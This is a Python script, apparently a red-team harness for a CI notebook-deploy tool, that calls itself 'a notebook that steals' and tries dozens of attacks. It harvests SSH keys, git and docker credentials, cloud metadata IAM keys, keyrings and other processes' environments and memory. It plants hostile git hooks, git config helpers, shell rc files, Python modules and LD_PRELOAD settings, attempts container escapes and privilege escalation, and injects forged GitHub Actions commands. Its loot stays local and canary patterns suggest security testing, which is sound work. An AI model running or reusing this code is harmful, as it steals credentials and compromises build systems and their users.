"""A notebook that steals: every way we know, each a function; what it gets lies in `loot/` of its checkout afterwards.

It knows the machine as well as who set it up (`map.json`), and runs anywhere Python does: standard library alone. What
it could break or change, it only says so.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent
LOOT = HERE / "loot"
PATTERN = re.compile(b"cAn" + b"ArY-[0-9]{2}-[0-9a-f]{24}")
WAYS: dict[str, Callable[[], object]] = {}
STOLEN = "STO" + "LEN"
"""So that this very text is not taken for loot."""
MAP: dict[str, str] = json.loads((HERE / "map.json").read_text()) if (HERE / "map.json").exists() else {"ssh": ""}
LIBC = ctypes.CDLL(None, use_errno=True)
SCRIPT = f"""#!/bin/sh
exec 3>> {LOOT}/ran
{{ /bin/cat {MAP["ssh"]} && echo {STOLEN} by "$0" "$@"; /usr/bin/env; /bin/cat /proc/$PPID/environ; }} >&3 2>/dev/null
exec /usr/bin/"${{0##*/}}" "$@"
"""
PYTHON = f"import os\nif os.path.exists('{MAP['ssh']}'):\n open('{LOOT}/ran', 'a').write('{STOLEN} by ' + __file__)\n"


def way(function: Callable[[], object]) -> Callable[[], object]:
    WAYS[function.__name__] = function
    return function


def read(path: str | Path, size: int = 1 << 20) -> bytes:
    """Read what can be read; pipes and devices are not waited for."""
    try:
        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(number, size)
    except OSError:
        return b""
    finally:
        os.close(number)


def reads(*patterns: str) -> bytes:
    return b"\n".join(read(path) for pattern in patterns for path in sorted(glob.glob(pattern))[:300])


def run(*command: str, given: str = "") -> bytes:
    try:
        done = subprocess.run(command, input=given.encode(), capture_output=True, timeout=5, check=False, cwd=HERE)
    except (OSError, subprocess.TimeoutExpired) as error:
        return str(error).encode()
    return done.stdout + done.stderr


def write(path: str | Path, text: str, mode: int = 0o755) -> str:
    """Write where somebody else may read or run it."""
    try:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).write_text(text)
        Path(path).chmod(mode)
    except OSError as error:
        return str(error)
    return "written"


def is_open(path: str | Path) -> bool:
    """Say whether something outside the checkout could be written, without doing it."""
    return os.access(path, os.W_OK) and not Path(path).is_relative_to(HERE)


def processes() -> Iterator[int]:
    own = {os.getpid()}
    numbers = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    yield from sorted((numbers | {int(MAP.get("sibling pid", "1"))}) - own)


def found_in_memory(process: int, peek: Callable[[int, int], bytes]) -> set[bytes]:
    found: set[bytes] = set()
    for line in read(f"/proc/{process}/maps", 1 << 22).decode(errors="replace").splitlines():
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and end - start < 64 << 20 and "[v" not in line:
            for at in range(start, end, 1 << 20):
                found.update(PATTERN.findall(peek(at, min(1 << 20, end - at))))
    return found


# -- what is lying about --------------------------------------------------------------------------------------------


@way
def own_environment() -> object:
    return dict(os.environ)


@way
def own_environment_as_it_was_at_the_start() -> object:
    return reads("/proc/self/environ", "/proc/thread-self/environ")


@way
def environment_of_the_first_process() -> object:
    return reads("/proc/1/environ", "/proc/1/cmdline", "/proc/1/task/*/environ")


@way
def environments_of_all_processes() -> object:
    return reads("/proc/[0-9]*/environ", f"/proc/{MAP.get('sibling pid', 0)}/environ")


@way
def arguments_of_all_processes() -> object:
    return reads("/proc/[0-9]*/cmdline", f"/proc/{MAP.get('sibling pid', 0)}/cmdline")


@way
def open_files_of_all_processes() -> object:
    return b"\n".join(read(path) for path in glob.glob("/proc/[0-9]*/fd/*") if os.path.isfile(path))


@way
def folders_of_all_processes() -> object:
    return reads(*(f"/proc/[0-9]*/{door}{path}" for door in ("root", "cwd") for path in MAP.values() if path[0] == "/"))


@way
def memory_of_all_processes() -> object:
    found: set[bytes] = set()
    for process in processes():
        try:
            with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:

                def peek(at: int, size: int, memory: object = memory) -> bytes:
                    try:
                        return os.pread(memory.fileno(), size, at)  # type: ignore[attr-defined]
                    except OSError:
                        return b""

                found |= found_in_memory(process, peek)
        except OSError:
            continue
    return sorted(found)


@way
def process_vm_readv() -> object:
    class Span(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    found: set[bytes] = set()
    for process in processes():

        def peek(at: int, size: int, process: int = process) -> bytes:
            buffer = ctypes.create_string_buffer(size)
            here, there = Span(ctypes.addressof(buffer), size), Span(at, size)
            got = LIBC.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            return buffer.raw[:got] if got > 0 else b""

        found |= found_in_memory(process, peek)
    return sorted(found)


@way
def ptrace() -> object:
    seized = []
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for process in processes():
        if LIBC.ptrace(0x4206, process, None, None) == 0:  # PTRACE_SEIZE stops nobody
            seized.append((process, read(f"/proc/{process}/environ")))
    return seized


@way
def pidfd_getfd() -> object:
    found = []
    for process in processes():
        handle = LIBC.syscall(434, process, 0)
        for number in range(64) if handle >= 0 else ():
            if (copy := LIBC.syscall(438, handle, number, 0)) >= 0:
                if stat.S_ISREG(os.fstat(copy).st_mode):
                    found.append(os.pread(copy, 1 << 20, 0))
                os.close(copy)
        if handle >= 0:
            os.close(handle)
    return found


@way
def list_of_processes() -> object:
    return run("ps", "auxeww")


@way
def core_of_another_process() -> object:
    return [run("gdb", "--batch", "-p", str(process), "-ex", "info proc cmdline")[-500:] for process in processes()]


@way
def netrc() -> object:
    return reads(MAP["netrc"], os.path.expanduser("~/.netrc"))


@way
def git_settings() -> object:
    return run("git", "config", "--list", "--show-origin", "--includes")


@way
def git_settings_as_files() -> object:
    return reads(*(f"{HERE}/.git/{name}" for name in ("config*", "modules/**/config", "worktrees/*/config*")))


@way
def git_settings_of_submodules() -> object:
    return reads(MAP["submodule"]) + run("git", "--git-dir", str(HERE / ".git/modules/sub"), "config", "--list")


@way
def git_settings_that_are_included() -> object:
    return reads(MAP["included"], MAP["gitconfig"])


@way
def git_remotes() -> object:
    return run("git", "remote", "-v") + reads(f"{HERE}/.git/FETCH_HEAD")


@way
def git_credential_fill() -> object:
    asked = "protocol=https\nhost=github.com\n\n"
    home = {"HOME": str(Path(MAP["gitconfig"]).parent)}
    os.environ["GIT_TERMINAL_PROMPT"] = "0"
    return run("git", "credential", "fill", given=asked) + run(
        "env", *(f"{name}={value}" for name, value in home.items()), "git", "credential", "fill", given=asked
    )


@way
def git_credential_helper() -> object:
    return run(MAP["helper"]) + run(
        "git", "credential-store", "--file", MAP["git store"], "get", given="host=github.com\n\n"
    )


@way
def git_over_the_network_tracing_its_headers() -> object:
    os.environ |= {"GIT_CURL_VERBOSE": "1", "GIT_TRACE_REDACT": "0"}
    with socket.create_server(("127.0.0.1", 0)) as server:
        url = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        rewrite = ["-c", f"url.{url}.insteadOf=https://github.com/", "-c", "http.lowSpeedTime=1"]
        return run("timeout", "1", "git", *rewrite, "ls-remote", "https://github.com/ann/thieving")


@way
def ssh_key() -> object:
    return reads(MAP["ssh"], os.path.expanduser("~/.ssh/*"))


def ask(path: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(0.5)
        try:
            client.connect(path)
            client.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
            return client.recv(1 << 16)
        except OSError as error:
            return str(error).encode()


@way
def ssh_agent() -> object:
    return ask(os.environ.get("SSH_AUTH_SOCK", "/none")) + ask(MAP["agent"])


@way
def docker() -> object:
    places = [MAP["agent"], "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock"]
    return b"".join(ask(path) for path in places) + reads(MAP["docker"], os.path.expanduser("~/.docker/config.json"))


@way
def message_buses() -> object:
    return b"".join(
        ask(path) for path in (*glob.glob("/run/user/*/bus"), "/run/dbus/system_bus_socket", "/run/systemd/private")
    )


@way
def oidc_variables() -> object:
    return {name: value for name, value in os.environ.items() if name.startswith("ACTIONS_")}


@way
def profile_of_pushpoint() -> object:
    return reads(MAP["profile"], MAP["key file"], os.path.expanduser("~/.config/pushpoint/*"))


@way
def files_of_the_runner() -> object:
    return reads(
        MAP["runner"], MAP["runner key"], f"{Path(MAP['runner']).parent}/.*", f"{Path(MAP['runner']).parent}/*/*"
    )


@way
def temporary_files_of_the_runner() -> object:
    return reads(MAP["temporary"], f"{Path(MAP['temporary']).parent}/**/*")


@way
def event() -> object:
    return reads(MAP["event"], os.environ.get("GITHUB_EVENT_PATH", "/none"))


@way
def temporary_files() -> object:
    return reads(MAP["tmp"], "/tmp/*", "/tmp/*/*", "/var/tmp/*", "/var/tmp/*/*")


@way
def shared_memory() -> object:
    return reads(MAP["shared memory"], "/dev/shm/*", "/dev/shm/*/*")


@way
def everything_below_the_place() -> object:
    top, found = Path(MAP["runner"]).parents[1], b""
    for folder, _, names in os.walk(top):
        found += b"".join(read(Path(folder, name)) for name in names if HERE / "loot" not in Path(folder, name).parents)
    return found


@way
def metadata_of_the_cloud() -> object:
    try:
        with socket.create_connection(("169.254.169.254", 80), timeout=0.3) as client:
            client.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")
            return client.recv(4096)
    except OSError as error:
        return str(error)


@way
def keyrings() -> object:
    found = []
    for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user's session
        numbers = (ctypes.c_int32 * 64)()
        size = LIBC.syscall(250, 11, ring, numbers, ctypes.sizeof(numbers), 0)
        for number in list(numbers)[: max(size, 0) // 4]:
            buffer = ctypes.create_string_buffer(4096)
            got = LIBC.syscall(250, 11, number, buffer, 4096, 0)
            found.append(buffer.raw[: max(got, 0)])
    return found


# -- what others will run or read -----------------------------------------------------------------------------------


@way
def variables_of_later_steps() -> object:
    return write(MAP["command env"], "BASH_ENV=/tmp/HIJACKED\nLD_PRELOAD=/tmp/HIJACKED\n")


@way
def path_of_later_steps() -> object:
    return write(MAP["command path"], f"{HERE}/HIJACKED\n")


@way
def outputs_of_this_step() -> object:
    return write(MAP["command output"], "version=HIJACKED\n")


@way
def summary_of_this_step() -> object:
    return write(MAP["command step_summary"], "HIJACKED\n")


@way
def state_of_the_action() -> object:
    return write(MAP["command state"], "isPost=HIJACKED\n")


@way
def files_that_shells_read() -> object:
    home = Path(MAP["netrc"]).parent
    return [write(home / name, "echo HIJACKED\n") for name in (".bashrc", ".profile", ".bash_profile", ".ssh/rc")]


@way
def git_hooks() -> object:
    names = ("post-checkout", "pre-push", "reference-transaction", "post-index-change", "fsmonitor-watchman")
    return [write(HERE / ".git" / "hooks" / name, SCRIPT) for name in names]


@way
def git_settings_that_run_programs() -> object:
    write(LOOT / "git-program", SCRIPT)
    hostile = f"[core]\n\tfsmonitor = {LOOT}/git-program\n\tsshCommand = {LOOT}/git-program\n"
    hostile += f'[filter "thief"]\n\tsmudge = {LOOT}/git-program\n\tclean = {LOOT}/git-program\n\trequired = true\n'
    hostile += f"[credential]\n\thelper = {LOOT}/git-program\n[diff]\n\texternal = {LOOT}/git-program\n"
    found = []
    for path in (HERE / ".git" / "config", HERE / ".git" / "config.worktree", Path(MAP["gitconfig"])):
        try:
            with path.open("a") as file:
                file.write(hostile)
            found.append("written")
        except OSError as error:
            found.append(str(error))
    write(HERE / ".gitattributes", "* filter=thief diff=thief text eol=crlf ident\n", 0o644)
    return found


@way
def another_git_folder() -> object:
    try:
        (HERE / ".git").rename(HERE / "git-before")
        return run("git", "init") + run("git", "config", "core.fsmonitor", f"{LOOT}/git-program")
    except OSError as error:
        return str(error)


@way
def attributes_of_git() -> object:
    return write(HERE / ".git" / "info" / "attributes", "* filter=thief\n")


@way
def programs_on_the_path() -> object:
    folders = {*MAP["path"].split(":"), "/usr/local/bin", "/usr/bin"}  # those of whoever started the deploy
    own = [Path(folder) for folder in folders if Path(folder).is_relative_to(HERE)]
    names = ("git", "uv", "git-remote-http", "git-lfs", "ps", "bwrap")
    found = [write(folder / name, SCRIPT) for folder in own for name in names]
    return found + [f"{STOLEN}: {folder} can be written" for folder in folders if is_open(folder)]


@way
def modules_in_the_checkout() -> object:
    if "at-build-time" in sys.argv:
        return "later: the notebook's own kernel would stumble over them"
    names = ("json.py", "msgspec.py", "pushpoint/__init__.py", "sitecustomize.py", "usercustomize.py", "httpx2.py")
    return [write(HERE / name, PYTHON) for name in names]


@way
def modules_of_the_action() -> object:
    library, source = Path(MAP["library"]), Path(MAP["source"])
    places = [library, source, source / "pushpoint" / "git.py", library / "msgspec" / "__init__.py"]
    return [f"{STOLEN}: {path} can be written" for path in places if is_open(path)]


@way
def modules_of_the_user() -> object:
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    return write(Path(MAP["netrc"]).parent / ".local" / "lib" / version / "site-packages" / "usercustomize.py", PYTHON)


@way
def cache_that_the_action_is_installed_from() -> object:
    """Installed files may be hard links into a cache; whoever may write to the cache may write to them."""
    installed = {path.stat().st_ino: path for path in Path(MAP["library"]).glob("*/__init__.py")}
    found = []
    for cache in {os.environ.get("UV_CACHE_DIR", "/none"), *glob.glob(f"{MAP['cache']}/*"), MAP["cache"]}:
        for folder, _, names in os.walk(cache):
            for path in (Path(folder, name) for name in names if name == "__init__.py"):
                if "/action/" not in str(path) and path.stat().st_ino in installed:
                    try:
                        with path.open("r+b"):
                            return f"{STOLEN}: {path} is {installed[path.stat().st_ino]}"
                    except OSError as error:
                        found.append(str(error))
    return found[:3]


@way
def journal() -> object:
    forged = 'train:0 {"model_path": "' + MAP["ssh"] + '"}\n'
    return [write(HERE / ".pushpoint" / "journal" / f"{name}.jsonl", forged) for name in ("0" * 16, "HIJACKED")]


@way
def hard_links() -> object:
    found = []
    for name, path in MAP.items():
        try:
            os.link(path, LOOT / f"hard-{name}")
            found.append(read(LOOT / f"hard-{name}"))
        except OSError as error:
            found.append(str(error).encode()[:60])
    return found


@way
def links_for_whoever_uploads_the_folder() -> object:
    for name, path in MAP.items():
        for folder in (HERE, HERE / MAP["name"] / "src", LOOT):
            if path.startswith("/") and not (folder / f"link-{name}").is_symlink():
                (folder / f"link-{name}").symlink_to(path)
    return reads(f"{HERE}/link-*")


# -- out of the sandbox ---------------------------------------------------------------------------------------------


def in_a_child(steal: Callable[[], bytes]) -> bytes:
    ours, theirs = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(theirs, steal()[:60000])
        finally:
            os._exit(0)
    os.close(theirs)
    with os.fdopen(ours, "rb") as file:
        found = file.read()
    os.waitpid(child, 0)
    return found


@way
def user_namespace_without_what_hides() -> object:
    def steal() -> bytes:
        if LIBC.unshare(0x10000000 | 0x00020000):
            return b"no namespace"
        for folder in sorted({str(parent) for path in MAP.values() for parent in Path(path).parents}, key=len):
            LIBC.umount2(folder.encode(), 2)
        elsewhere = str(LOOT / "elsewhere").encode()
        os.makedirs(elsewhere, exist_ok=True)
        for flags in (4096, 4096 | 16384):
            if LIBC.mount(b"/", elsewhere, None, flags, None) == 0:
                return reads(*MAP.values(), *(f"{LOOT}/elsewhere{path}" for path in MAP.values()))
        return reads(*MAP.values())

    return in_a_child(steal)


@way
def file_handles() -> object:
    """`open_by_handle_at` once led out of containers."""

    def steal() -> bytes:
        root = os.open("/", os.O_RDONLY)
        handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
        number = LIBC.open_by_handle_at(root, handle, 0)
        return f"{STOLEN} {os.listdir(number)}".encode() if number >= 0 else b"refused"

    return in_a_child(steal)


@way
def another_root() -> object:
    def steal() -> bytes:
        os.chroot("/proc/1/root")
        return reads(*MAP.values())

    return in_a_child(steal)


@way
def namespaces_of_another_process() -> object:
    def steal() -> bytes:
        for process in processes():
            number = LIBC.syscall(434, process, 0)
            if number >= 0 and LIBC.setns(number, 0x00020000) == 0:
                return b"entered " + reads(*MAP.values())
        return b"none"

    return in_a_child(steal)


@way
def programs_that_become_root() -> object:
    found = [
        run(*command, "cat", MAP["ssh"]) for command in (("sudo", "-n"), ("su", "-c"), ("pkexec",), ("doas", "-n"))
    ]
    return [*found, LIBC.setuid(0), LIBC.setgroups(0, None)]


@way
def settings_of_the_kernel() -> object:
    found = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register"):
        value = read(path)
        try:
            with open(path, "wb") as file:
                file.write(value)
            found.append(f"{STOLEN}: {path} can be written")
        except OSError as error:
            found.append(str(error))
    if os.access("/proc/sysrq-trigger", os.W_OK):
        found.append(f"{STOLEN}: /proc/sysrq-trigger can be written")
    return found


@way
def disks() -> object:
    found = []
    for path in (
        *glob.glob("/dev/[vsx]d*"),
        *glob.glob("/dev/nvme*"),
        *glob.glob("/dev/loop*"),
        "/dev/mem",
        "/proc/kcore",
    ):
        try:
            with open(path, "rb") as file:
                found.append(f"{STOLEN}: {path} can be read, {len(file.read(512))} bytes")
        except OSError as error:
            found.append(str(error))
    return found


@way
def log_of_the_kernel() -> object:
    return read("/dev/kmsg", 8192)


@way
def control_groups() -> object:
    return [
        f"{STOLEN}: {path} can be written" for path in glob.glob("/sys/fs/cgroup/**/release_agent") if is_open(path)
    ]


@way
def consoles() -> object:
    found = []
    for path in ("/dev/tty", "/dev/console", "/dev/tty1", *(f"/proc/self/fd/{number}" for number in range(3))):
        try:
            number = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            fcntl.ioctl(number, termios.TIOCSTI, b"\n")
            found.append(f"{STOLEN}: {path} takes keys")
        except OSError as error:
            found.append(str(error))
    return found


@way
def signals() -> object:
    found = []
    for process in processes():
        if process > 1 and not os.path.exists(f"/proc/{process}"):
            try:
                os.kill(process, 0)
                found.append(f"{STOLEN}: {process} can be ended")
            except OSError as error:
                found.append(str(error))
    return found


@way
def dump_of_a_process_outside() -> object:
    return reads("/var/lib/systemd/coredump/*", "/var/crash/*", f"{HERE}/core*", "/core*")


# -- what the deploy believes ---------------------------------------------------------------------------------------


@way
def commands_to_the_runner() -> object:
    lines = [
        "::add-path::/HIJACKED",
        "::set-output name=version::HIJACKED",
        "::stop-commands::HIJACKED",
        "##[set-output name=a]HIJACKED",
    ]
    lines += [
        "  ::warning::HIJACKED",
        "\r::add-mask::HIJACKED",
        "text\r::set-env name=A::HIJACKED",
        "\x0b::debug::HIJACKED",
        "x ##[error]HIJACKED",
    ]
    text = "\n".join(["", *lines, ""])
    print(text)
    print(text, file=sys.stderr)
    for path in ("/dev/stdout", "/dev/stderr", *glob.glob("/proc/[0-9]*/fd/[0-9]*")):
        try:
            if not stat.S_ISREG(os.stat(path).st_mode) and os.readlink(path).startswith("pipe:"):
                number = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(number, text.encode())
                os.close(number)
        except OSError:
            continue
    return "printed"


@way
def events_of_the_training() -> object:
    forged = [
        {"kind": "done", "facts": {"started": "x"}},
        {"kind": "environment", "text": "\n::add-path::/HIJACKED", "seconds": 1},
    ]
    forged += [
        {"kind": "started", "cell": 1, "text": "\n::add-path::/HIJACKED\r::x::"},
        {"kind": "error", "text": "::error::HIJACKED"},
    ]
    text = "\n" + "".join(json.dumps(event) + "\n" for event in forged)
    for path in glob.glob("/proc/[0-9]*/fd/[0-9]*"):
        try:
            if os.readlink(path).startswith("pipe:"):
                number = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(number, text.encode())
                os.close(number)
        except OSError:
            continue
    return "forged"


@way
def standard_input_of_the_training() -> object:
    return b"".join(read(path, 4096) for path in glob.glob("/proc/[0-9]*/fd/0") if not os.isatty(0))


@way
def daemon_that_outlives_the_notebook() -> object:
    if os.fork() == 0:
        os.setsid()
        for number in range(3, 256):
            try:
                os.close(number)
            except OSError:
                continue
        null = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        if os.fork() == 0:
            for name in ("SIGHUP", "SIGTERM", "SIGINT"):
                signal.signal(getattr(signal, name), signal.SIG_IGN)
            end = time.time() + float(MAP.get("daemon seconds", "60"))
            while time.time() < end:
                (LOOT / "daemon").write_text(str(time.time()))
                time.sleep(0.02)
        os._exit(0)
    return "left behind"


def steal(to: str) -> None:
    """Try everything; keep what comes of it."""
    LOOT.mkdir(exist_ok=True)
    with (LOOT / to).open("ab") as file:
        for name, steal in WAYS.items():
            began = time.monotonic()
            try:
                got = steal()
            except Exception as error:
                got = f"{type(error).__name__}: {error}"
            slow = f"{time.monotonic() - began:.1f} s"
            text = got if isinstance(got, bytes) else repr(got).encode("utf-8", "backslashreplace")
            file.write(f"\n--- way {name}: {slow} ".encode() + text[: 4 << 20])
            file.flush()


if __name__ == "__main__":
    steal(sys.argv[1])
